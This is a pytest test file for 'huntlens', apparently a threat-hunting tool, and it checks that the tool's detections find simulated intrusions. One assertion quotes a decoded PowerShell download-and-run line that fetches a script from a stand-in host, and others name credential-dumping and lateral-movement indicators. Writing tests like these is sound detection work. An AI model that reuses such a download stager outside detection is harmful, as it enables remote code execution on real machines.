"""The demo, run as a newcomer runs it."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from huntlens.cli.demo.findings import findings


def demo(out: Path, *arguments: str) -> str:
    command = [sys.executable, "-m", "huntlens", "demo", "--out", str(out), *arguments]
    wide = {**os.environ, "COLUMNS": "300"}
    done = subprocess.run(command, capture_output=True, text=True, timeout=280, env=wide)
    assert done.returncode == 0, done.stderr[-2_000:]
    return done.stdout


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("demo") / "out"
    demo(out)
    return out


def test_notebook_ran_without_an_error(made: Path) -> None:
    book = nbformat.read(made / "hunt.ipynb", 4)
    outputs = [output for cell in book.cells for output in cell.get("outputs", ())]
    assert not [output for output in outputs if output.output_type == "error"]
    assert sum("text/html" in output.get("data", {}) for output in outputs) >= 10
    nbformat.validate(book)


def test_report_asks_nobody(made: Path) -> None:
    page = (made / "report.html").read_text("utf-8")
    assert not re.findall(r"<(?:script|link|img|iframe)[^>]+(?:src|href)=[\"']?(?:https?:)?//", page)
    assert "encoded" in page


def test_intrusion_is_found(made: Path) -> None:
    found = findings(made / "data").drop_duplicates(["query", "finding"]).set_index("query")["first"]
    assert found["entra.password_spray"] == "203.0.113.66"
    _command, hidden, indicators = found["windows.encoded_powershell"]
    assert "DownloadString('http://cdn-update.example/win/agent.ps1')" in hidden
    assert "198.51.100.23" in indicators
    assert "comsvcs.dll" in found["hunt.credential_dumping"]
    assert found["windows.service_installs"] == "PSEXESVC"
    assert found["device.beacons"] == "sync.telemetry-cdn.example"
    assert found["windows.log_clearing"] == "fs01.corp.example"


@pytest.mark.shared
@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("empire_dcom_shellwindows_stager", ("encoded_powershell", "they hide", "indicators", "remote_execution")),
        ("purplesharp_ad_playbook_I", ("device.remote_execution",)),
    ],
)
def test_real_telemetry(name: str, expected: tuple[str, ...], shared: Path, tmp_path: Path) -> None:
    out = demo(tmp_path / "out", "--data", str(shared / f"data/security-datasets/{name}.zip"))
    for words in expected:
        assert words in out


ATTACKS = {
    "cmd_wevtutil_modify_security_eventlog_path": {"device.log_tampering"},
    "ec2_proxy_s3_exfiltration": {"aws.role_use"},
    "metasploit_logonpasswords_lsass_memory_dump": {"hunt.lsass_access", "windows.service_installs"},
    "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference": {"linux.encoded_commands"},
    "syslog_sysmon_log4shell_cve2021_44228_jndi_reference": {"hunt.web_server_shells", "device.jndi_lookups"},
    "sysmon_log4shell_cve2021_44228_java_serialized_object": {"device.encoded_powershell", "device.jndi_lookups"},
    "vminsights_vmconnection_log4shell_cve2021_44228_jndi_reference": {"vm.jndi_lookups", "vm.shell_connections"},
}


@pytest.mark.shared
@pytest.mark.parametrize(("name", "expected"), ATTACKS.items())
def test_every_set_gives_its_attack_away(name: str, expected: set[str], shared: Path) -> None:
    assert expected <= set(findings(shared / f"data/security-datasets/{name}.zip")["query"])


def test_a_path_that_is_not_there_is_one_message(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "huntlens", "demo", "--out", str(tmp_path / "out"), "--data", "nowhere.zip"]
    done = subprocess.run(command, capture_output=True, text=True)
    assert (done.returncode, done.stderr) == (1, "error: nowhere.zip: no such file or folder\n")
